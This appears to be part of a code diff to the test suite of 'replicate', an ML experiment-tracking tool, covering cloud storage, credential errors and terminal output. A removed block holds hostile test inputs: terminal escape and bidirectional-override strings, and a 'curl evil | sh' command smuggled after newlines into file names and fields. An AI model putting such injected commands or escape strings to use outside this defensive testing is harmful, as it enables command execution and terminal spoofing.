+    served = sum(request.served for request in s3_bucket.proxy.seen("GET", "checkpoints/"))
+    assert served <= (tmp_path / "archive").stat().st_size + (1 << 20)
+    shutil.rmtree(tmp_path / "out")
+    (tmp_path / "archive").unlink()
+
+
+def test_memory_stays_small_while_many_checkpoints_are_pushed(bucket, project):
+    """Many archives that are just too small to go in parts."""
+    bucket.create()
+    documents = [checkpoint_document("%064x" % number, path="model", step=number) for number in range(24)]
+    root = Path(replicate.pending_repository(str(project), bucket.url).storage.root)
+    write_repository(root, experiment_document(hex_id("1e"), checkpoints=documents))
+    (root / "checkpoints").mkdir()
+    for item in documents:
+        with open(root / "checkpoints" / (item["id"] + ".tar.gz"), "wb") as file:
+            file.truncate((8 << 20) - 1000)
+    bucket.proxy.sink = True
+    done = run_script(MEASURE.format("assert replicate.main(['push']) == 0"))
+    assert len(bucket.checkpoints()) == 24 and len([
+        request for request in bucket.proxy.requests if int(request.headers.get("Content-Length") or 0) > 1 << 20]) == 24
+    assert int(done.stdout) < 150 << 10, done.stdout
+
+
+def test_rm_deletes_in_batches_and_by_exact_key(shelf, call):
+    ids = ["%064x" % (number * 7919) for number in range(1, 1501)]
+    for document in (experiment_document(hex_id("1e"), path=".", checkpoints=[
+            checkpoint_document(item, step=number, path="m") for number, item in enumerate(ids)]), experiment_document(hex_id("2e"))):
+        shelf.store("metadata/experiments/%s.json" % document["id"], json.dumps(document).encode())
+    kept = ["checkpoints/%s.tar.gz.bak" % ids[0], "checkpoints/%s.tar.gz" % ("%064x" % 1), "experiments/%s.tar.gz2" % hex_id("1e")]
+    for key in ["checkpoints/%s.tar.gz" % item for item in ids] + kept + [
+            "experiments/%s.tar.gz" % hex_id("1e"), "metadata/heartbeats/%s.json" % hex_id("1e")]:
+        shelf.store(key, b"x")
+    code, _, errors = call("rm", "-f", "1e")
+    assert code == 0, errors
+    assert sorted(shelf.objects) == sorted(kept + ["repository.json", "metadata/experiments/%s.json" % hex_id("2e")])
+    batches = [request.deleted for request in shelf.seen("DELETE")]
+    assert [len(batch) for batch in batches] == [1000, 502, 1]
+    assert batches[-1] == ["metadata/experiments/%s.json" % hex_id("1e")]  # the document goes last
+
+
+# What is missing or wrong on the machine.
+
+@pytest.mark.parametrize("scheme, module, package", [("s3", "boto3", "boto3"), ("gs", "google.cloud.storage", "google-cloud-storage")])
+def test_a_missing_sdk_is_one_sentence(project, scheme, module, package):
+    (project / "replicate.yaml").write_text("repository: %s://some-bucket\n" % scheme)
+    source = "import sys\nsys.modules[%r] = None\nif %r != 'boto3': sys.modules['google'] = None\nimport replicate\n" % (module, module)
+    done = run_script(source + "raise SystemExit(replicate.main(['ls']))", check=False)
+    assert done.returncode == 1 and "pip install %s" % package in one_message(done.stderr) and "without it" in done.stderr
+    done = run_script(source + "try:\n    replicate.init()\nexcept replicate.ReplicateError as error:\n    print(error)")
+    assert "pip install %s" % package in done.stdout
+    write_repository(project / "repo")
+    done = run_script(source + "raise SystemExit(replicate.main(['ls', '-R', 'file://repo']))")
+    assert "No experiments found" in done.stderr
+
+
+def test_missing_s3_credentials_are_one_sentence(s3_bucket, call, monkeypatch):
+    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
+        monkeypatch.delenv(name)
+    monkeypatch.setenv("AWS_CONFIG_FILE", "/nonexistent")
+    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", "/nonexistent")
+    code, _, errors = call("ls")
+    assert code == 1 and "Unable to locate credentials" in one_message(errors) and s3_bucket.url in errors
+    with pytest.raises(replicate.ReplicateError, match="Unable to locate credentials"):
+        replicate.init()
+    assert s3_bucket.proxy.count() == 0
+    monkeypatch.setenv("AWS_PROFILE", "nobody")
+    code, _, errors = call("ls")
+    assert code == 1 and "nobody" in one_message(errors)
+
+
+def test_missing_gcs_credentials_are_one_sentence(project, call, monkeypatch):
+    pytest.importorskip("google.cloud.storage")
+    (project / "replicate.yaml").write_text("repository: gs://some-bucket\n")
+    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", "/nonexistent")
+    code, _, errors = call("ls")
+    assert code == 1 and "/nonexistent" in one_message(errors) and "gs://some-bucket" in errors
+    with pytest.raises(replicate.ReplicateError, match="/nonexistent"):
+        replicate.init()
+
+
+@pytest.mark.parametrize("url", ["s3://", "gs://a", "s3://bad_bucket!", "gs://../x", "s3://-x-"])
+def test_bad_bucket_names_are_refused(project, call, monkeypatch, url):
+    for variable, value in CLOUD_KEYS.items():
+        monkeypatch.setenv(variable, value)
+    code, _, errors = call("ls", "-R", url)
+    assert code == 1 and one_message(errors)
+
+
+def test_profiles_and_endpoints_of_the_configuration_file_are_used(s3_bucket, call, monkeypatch, tmp_path):
+    sample(s3_bucket)
+    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_DEFAULT_REGION", "AWS_ENDPOINT_URL"):
+        monkeypatch.delenv(name)
+    (tmp_path / "home/.aws").mkdir()
+    (tmp_path / "home/.aws/config").write_text("[profile lab]\nregion = eu-west-1\nendpoint_url = %s\n" % s3_bucket.proxy.address)
+    (tmp_path / "home/.aws/credentials").write_text("[lab]\naws_access_key_id = LABKEY\naws_secret_access_key = s\n")
+    monkeypatch.setenv("AWS_PROFILE", "lab")
+    assert len(call("ls", "-q")[1].split()) == 2
+    assert all("LABKEY" in request.headers["Authorization"] and "eu-west-1" in request.headers["Authorization"]
+               for request in s3_bucket.proxy.requests)
+
+
+def test_no_checksums_that_other_stores_refuse(s3_bucket, project):
+    """MinIO, Ceph, R2 and the like: plain bodies, without the trailing checksums of newer versions of boto3."""
+    (project / "model").write_bytes(os.urandom(9 << 20))
+    with replicate.init(path="model", quiet=True) as experiment:
+        experiment.checkpoint(path="model", quiet=True)
+    for request in s3_bucket.proxy.requests:
+        if request.kind in ("PUT", "PART"):
+            assert "aws-chunked" not in request.headers.get("Content-Encoding", "")
+            assert not [name for name in request.headers if name.lower().startswith(("x-amz-checksum", "x-amz-trailer"))]
 
 
 # ------------------------------------------------------------------------------------------------------------------
@@ -4054,12 +6406,12 @@ def test_every_kind_of_plain_value(repo):
         def __str__(self):
             return "other"
     params = {"t": (1, (2,)), "p": pathlib.PurePosixPath("a/b"), "e": Kind.ONE, "s": Text("mine"), "u": "ü\u2028\ud800",
-              "None": "None", "k": {1: 2, True: 3, 1.5: None}, "big": 2 ** 70, "tiny": 5e-324, "neg": -0.0, "": 0,
+              "None": "None", "k": {1: 2, 1.5: None}, "big": 2 ** 70, "tiny": 5e-324, "neg": -0.0, "": 0,
               "[NaN]": "x"}
     replicate.init(params=params, quiet=True).stop()
     assert replicate.experiments.list()[0].params == {
         "t": [1, [2]], "p": "a/b", "e": 1, "s": "mine", "u": "ü\u2028\ud800", "None": "None",
-        "k": {"1": 3, "1.5": None}, "big": 2 ** 70, "tiny": 5e-324, "neg": -0.0, "": 0, "[NaN]": "x"}
+        "k": {"1": 2, "1.5": None}, "big": 2 ** 70, "tiny": 5e-324, "neg": -0.0, "": 0, "[NaN]": "x"}
     assert run("ls", "--all").returncode == 0
 
 
@@ -4089,260 +6441,6 @@ def test_quiet_and_debug(project, repo, capsys):
     assert 2 <= len(capsys.readouterr().err.splitlines()) < 100  # quick ones are summed up
     replicate.init(debug=True, quiet=True)
     assert replicate.console.verbose
-
-
-# ------------------------------------------------------------------------------------------------------------------
-# 1  Errors and the console
-# ------------------------------------------------------------------------------------------------------------------
-
-# What steers a terminal, reorders or hides text, or cannot be encoded; as a repository's documents may hold it.
-HOSTILE = "\x1b[31m\x1b]0;pwned\x07|\x9b2J|\r\n|\x08\x7f|\u202egnp|\u200b\u2066|\u2028|\ud800|\U000e0041|é日"
-STEERING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff"
-                      "\ud800-\udfff\U000e0000-\U000e0fff]")
-A, B = hex_id("1e"), hex_id("2e")  # experiments
-C, D = hex_id("1c"), hex_id("2c")  # checkpoints
-
-
-class Terminal:
-    """replicate.py (or another program) on a real pseudo-terminal, which is its controlling one."""
-
-    def __init__(self, *arguments, program=(sys.executable, str(PROGRAM)), cwd=None, env=None, stdin=None, stdout=None):
-        import fcntl
-        import pty
-        import termios
-        self.master, slave = pty.openpty()
-
-        def take_terminal():
-            os.setsid()
-            fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
-        self.process = subprocess.Popen([*map(str, program), *map(str, arguments)], cwd=cwd, preexec_fn=take_terminal,
-                                        env=dict(os.environ, TERM="xterm", **(env or {})),
-                                        stdin=slave if stdin is None else stdin,
-                                        stdout=slave if stdout is None else stdout, stderr=slave)
-        os.close(slave)
-        self.output = ""
-
-    def _read(self):
-        try:
-            piece = os.read(self.master, 65536)
-        except OSError:  # Linux says EIO when the last process has closed it
-            piece = b""
-        self.output += piece.decode("utf-8", "replace")
-        return piece
-
-    def expect(self, text):
-        """Wait until text was printed."""
-        while text not in self.output:
-            assert self._read(), "%r was not printed, but: %s" % (text, self.output)
-        return self
-
-    def send(self, text):
-        os.write(self.master, text.encode())
-        return self
-
-    def wait(self):
-        """The exit code, after everything is read."""
-        while self._read():
-            pass
-        os.close(self.master)
-        return self.process.wait(60)
-
-
-def snapshot(directory):
-    """All that is below a directory: {relative path: content, link target or 'directory'}."""
-    return {str(path.relative_to(directory)): ("link", os.readlink(path)) if path.is_symlink()
-            else path.read_bytes() if path.is_file() else "directory" for path in sorted(Path(directory).rglob("*"))}
-
-
-def test_messages_go_to_stderr_with_the_prefix(project):
-    done = run("show", "abc")
-    assert (done.returncode, done.stdout) == (1, "")
-    assert done.stderr.startswith("═══╡ ") and done.stderr.count("\n") == 1 and "abc" in done.stderr
-
-
-def test_continuation_lines_have_their_own_prefix(project):
-    write_repository(project / "repo", experiment_document(A))
-    message = run("rm", A, "--verbose").stderr
-    terminal = Terminal("rm", A, env={"NO_COLOR": "1"}).expect("(y/N)").send("n\n")
-    assert terminal.wait() == 1 and "═══╡ You are about" in terminal.output and "\r\n   │ * Experiment" in terminal.output
-    assert "═══╡ " in message
-
-
-def test_an_error_is_one_clear_message_and_a_traceback_only_with_verbose(project):
-    (project / "repo").mkdir()
-    (project / "repo/repository.json").write_text("{")
-    for flags in ([], ["-v"]):
-        done = run(*flags, "ls")
-        assert done.returncode == 1 and done.stdout == ""
-        assert ("Traceback" in done.stderr) == bool(flags)
-        assert "repository.json" in done.stderr
-
-
-def test_an_unexpected_failure_is_one_line_too(project):
-    source = ("import replicate, sys\n"
-              "def broken(self): raise ZeroDivisionError('a bug')\n"
-              "replicate.Repository.summaries = broken\n"
-              "sys.exit(replicate.main(sys.argv[1:]))")
-    write_repository(project / "repo", experiment_document(A))
-    plain, verbose = run_script(source, "ls", check=False), run_script(source, "ls", "-v", check=False)
-    assert plain.returncode == verbose.returncode == 1
-    assert plain.stderr.count("\n") == 1 and "a bug" in plain.stderr and "-v" in plain.stderr
-    assert "Traceback" in verbose.stderr and "ZeroDivisionError" in verbose.stderr
-
-
-@pytest.mark.parametrize("wanted, flags, env", [
-    (True, [], {}), (True, ["--color"], {}), (True, ["--color=true"], {}),
-    (False, ["--color=false"], {}), (False, ["--no-color"], {}), (False, [], {"NO_COLOR": "1"})])
-def test_colours_on_a_terminal(project, wanted, flags, env):
-    write_repository(project / "repo", experiment_document(A, params={"lr": 1}))
-    for arguments in ([*flags, "show", A], ["show", A, *flags]):
-        terminal = Terminal(*arguments, env=env)
-        assert terminal.wait() == 0, terminal.output
-        assert ("\x1b[" in terminal.output) == wanted
-        assert "lr:" in terminal.output
-    assert "\x1b" not in run(*flags, "show", A).stdout
-
-
-def test_stdout_in_a_pipe_has_no_colours_while_stderr_is_a_terminal(project):
-    write_repository(project / "repo", experiment_document(A, checkpoints=[checkpoint_document(C)]))
-    terminal = Terminal("show", A, stdout=subprocess.PIPE)
-    out = terminal.process.stdout.read().decode()
-    assert terminal.wait() == 0 and "\x1b" not in out and "Experiment: " + A in out and "\x1b[" in terminal.output
-
-
-def test_a_closed_pipe_is_no_error(project):
-    write_repository(project / "repo", *(experiment_document("%064x" % number, params={"text%d" % i: "x" * 50 for i in range(9)})
-                                         for number in range(1500)))
-    process = subprocess.Popen([sys.executable, str(PROGRAM), "ls", "--json"], stdout=subprocess.PIPE,
-                               stderr=subprocess.PIPE)
-    assert process.stdout.readline() == b"[\n"
-    process.stdout.close()
-    assert process.stderr.read() == b""
-    assert process.wait(60) == 0
-
-
-@pytest.mark.parametrize("arguments", [["ls"], ["ls", "--json"], ["ls", "-q"], ["show", A], ["--help"], ["--version"], ["help", "ls"]],
-                         ids=" ".join)
-def test_a_pipe_that_nobody_reads_is_no_error(project, arguments):
-    two_experiments(project)
-    reading, writing = os.pipe()
-    os.close(reading)
-    done = subprocess.run([sys.executable, str(PROGRAM), *arguments], stdout=writing, stderr=subprocess.PIPE)
-    os.close(writing)
-    assert (done.returncode, done.stderr) == (0, b"")
-
-
-def test_a_closed_stdout_or_stderr_is_no_error(project):
-    write_repository(project / "repo", experiment_document(A))
-    for redirection in (">&-", "2>&-", ">&- 2>&-", "<&-"):
-        done = subprocess.run("%s %s ls %s" % (sys.executable, PROGRAM, redirection), shell=True, capture_output=True)
-        assert (done.returncode, done.stderr) == (0, b""), redirection
-
-
-@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
-def test_a_full_disk_under_stdout_is_an_error_without_a_traceback(project):
-    write_repository(project / "repo", experiment_document(A))
-    done = subprocess.run("%s %s ls > /dev/full" % (sys.executable, PROGRAM), shell=True, capture_output=True, text=True)
-    assert done.returncode == 1 and "No space left" in done.stderr
-    assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr
-
-
-def test_progress_is_shown_on_a_terminal_and_not_in_a_pipe(project):
-    (project / "big.bin").write_bytes(os.urandom(3_000_000))
-    run_script("import replicate\nwith replicate.init(path='big.bin', quiet=True): pass")
-    item = stored_documents(project / "repo")[0]["id"]
-    impatient = (sys.executable, "-c", "import sys, replicate; replicate.Progress.DELAY = replicate.Progress.INTERVAL = 0\n"
-                 "sys.exit(replicate.main(sys.argv[1:]))")
-    terminal = Terminal("checkout", item, "-o", "one", program=impatient)
-    assert terminal.wait() == 0
-    assert "Checking out: " in terminal.output and "3.0 MB" in terminal.output and "\r\x1b[K" in terminal.output
-    piped = subprocess.run([*impatient, "checkout", item, "-o", "two"], capture_output=True, text=True)
-    assert piped.returncode == 0 and "Checking out: " not in piped.stderr and "\r" not in piped.stderr
-    assert tree(project / "one") == tree(project / "two") == {"big.bin": (project / "big.bin").read_bytes()}
-
-
-def hostile_repository(root):
-    """A repository whose every text is hostile."""
-    checkpoints = [checkpoint_document(hex_id("3c"), step=1, path=HOSTILE, primary=(HOSTILE, "minimize"),
-                                       metrics={HOSTILE: 1.5, "note" + HOSTILE: HOSTILE})]
-    write_repository(root, *(experiment_document(
-        item, params={"a" + HOSTILE: HOSTILE + item[:2], "b": [HOSTILE], "c": {HOSTILE: HOSTILE}}, host=HOSTILE + item[:1],
-        user=HOSTILE + item[:1], command="train.py " + HOSTILE, path=HOSTILE, python_version=HOSTILE + item[:1],
-        python_packages={HOSTILE: HOSTILE + item[:1]}, config={"repository": HOSTILE, "storage": HOSTILE},
-        checkpoints=[dict(checkpoint, id=checkpoint["id"][:-2] + item[:2]) for checkpoint in checkpoints])
-        for item in (A, B)))
-    write_archive(Path(root) / "experiments" / (A + ".tar.gz"), A, {"train.py": b"1"})
-    write_archive(Path(root) / "checkpoints" / (hex_id("3c")[:-2] + "1e.tar.gz"), hex_id("3c")[:-2] + "1e", {"model": b"2"})
-
-
-HOSTILE_COMMANDS = [
-    ["ls"], ["ls", "--all"], ["ls", "--json"], ["ps"], ["show", A], ["show", A, "--json"], ["show", hex_id("3c")[:-2] + "1e"],
-    ["diff", A, B], ["checkout", A, "-o", "out"], ["checkout", A, "--path", "modle", "-o", "out"], ["rm", A], ["rm", "-f", A],
-    ["ls", "-f", "nmae = 1"], ["ls", "-f", "nmae" + HOSTILE.replace("\ud800", "") + " = 1"], ["ls", "--sort", "note\x1b[31m"],
-    ["show", "a\x1b[31m\u202e"], ["\x1b[31m"], ["ls", "--\x1b[31m"], ["-R", "file:///no\x1b[31m\nthing", "ls"]]
-
-
-@pytest.mark.parametrize("arguments", HOSTILE_COMMANDS, ids=lambda arguments: repr(arguments)[:40])
-def test_hostile_text_never_reaches_a_terminal_raw(project, arguments):
-    hostile_repository(project / "repo")
-    done = run(*arguments)
-    for text in (done.stdout, done.stderr):
-        assert not STEERING.search(text), repr(text)
-    assert done.stdout or done.stderr
-    assert done.returncode in (0, 1, 2) and "Traceback" not in done.stderr and "unexpected" not in done.stderr
-
-
-def test_hostile_text_is_shown_escaped(project):
-    hostile_repository(project / "repo")
-    assert "\\x1b[31m" in run("show", A).stdout and "\\u202e" in run("show", A).stdout
-    listed = json.loads(run("ls", "--json").stdout)
-    assert listed[0]["params"]["b"] == [HOSTILE] and listed[0]["host"] == HOSTILE + "1"
-
-
-def test_a_newline_from_a_repository_starts_no_line_of_a_message(project):
-    write_repository(project / "repo", experiment_document(A, command="train.py\ncurl evil | sh", path="."))
-    write_archive(project / "repo/experiments" / (A + ".tar.gz"), A, {"x\ncurl evil | sh": b"1"})
-    (project / "x\ncurl evil | sh").write_bytes(b"2")
-    (project / "repo/metadata/experiments/a\ncurl evil | sh").write_text("{")
-    for arguments in (["checkout", A], ["checkout", A, "-o", "out"], ["ls"], ["checkout", A, "--path", "x", "-o", "new"]):
-        done = run(*arguments)
-        assert not re.search(r"(?m)^(   │ )?\s*curl", done.stderr), done.stderr
-
-
-ASCII = [{"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}, {"PYTHONIOENCODING": "ascii"},
-         {"PYTHONIOENCODING": "latin-1"}]
-
-
-@pytest.mark.parametrize("env", ASCII, ids=["C", "ascii", "latin-1"])
-@pytest.mark.parametrize("arguments", HOSTILE_COMMANDS[:15], ids=lambda arguments: repr(arguments)[:40])
-def test_an_ascii_locale_is_no_error(project, env, arguments):
-    hostile_repository(project / "repo")
-    arguments = [argument.encode("ascii", "ignore").decode() for argument in arguments]
-    plain = run(*arguments) if "rm" not in arguments and "checkout" not in arguments else None
-    done = run(*arguments, env=env)
-    assert done.stdout or done.stderr
-    assert "UnicodeEncodeError" not in done.stderr and "Traceback" not in done.stderr and "unexpected" not in done.stderr
-    assert not STEERING.search(re.sub("[\udca0-\udcff]", "é", done.stdout + done.stderr))  # the letters of latin-1
-    assert not plain or (done.returncode, done.stdout.count("\n")) == (plain.returncode, plain.stdout.count("\n"))
-    assert not plain or done.stderr.count("\n") == plain.stderr.count("\n")
-
-
-@pytest.mark.parametrize("env", ASCII, ids=["C", "ascii", "latin-1"])
-def test_the_prefix_of_messages_has_an_ascii_form(project, env):
-    write_repository(project / "repo", experiment_document(A))
-    assert run("show", "zz", env=env).stderr.startswith("===| ")
-    write_repository(project / "repo", experiment_document(A, checkpoints=[checkpoint_document(C)]))
-    assert "\n   | " in run("show", A, env=env).stderr
-
-
-@pytest.mark.parametrize("env", ASCII, ids=["C", "ascii", "latin-1"])
-def test_json_stays_json_in_every_locale(project, env):
-    params = {"näme": "日本 \U0001f600 é \u20ac"}
-    write_repository(project / "repo", experiment_document(A, params=params))
-    for arguments in (["ls", "--json"], ["show", A, "--json"]):
-        done = subprocess.run([sys.executable, str(PROGRAM), *arguments], env=dict(os.environ, **env), stdout=subprocess.PIPE)
-        document = json.loads(done.stdout.decode("latin-1" if "latin-1" in env.values() else "ascii"))
-        assert (document[0] if "ls" in arguments else document)["params"] == params
 
 
 # ------------------------------------------------------------------------------------------------------------------
